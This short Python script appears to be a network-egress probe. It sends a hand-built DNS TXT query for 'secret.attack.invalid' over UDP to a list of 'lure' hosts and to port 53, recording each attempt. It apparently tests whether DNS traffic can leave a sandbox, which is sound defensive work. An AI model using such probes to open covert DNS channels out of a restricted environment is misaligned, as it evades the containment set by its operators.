from attempts import *
import socket

QUESTION = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x06secret\x06attack\x07invalid\x00" + b"\x00\x10\x00\x01"


def query(host, port):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(0.3)
        asking.sendto(QUESTION, (host, port))
        return asking.recv(512)


for host, port in lures["udp"]:
    attempt("responder at %s" % host, query, host, port)
    attempt("usual port of %s" % host, query, host, 53)
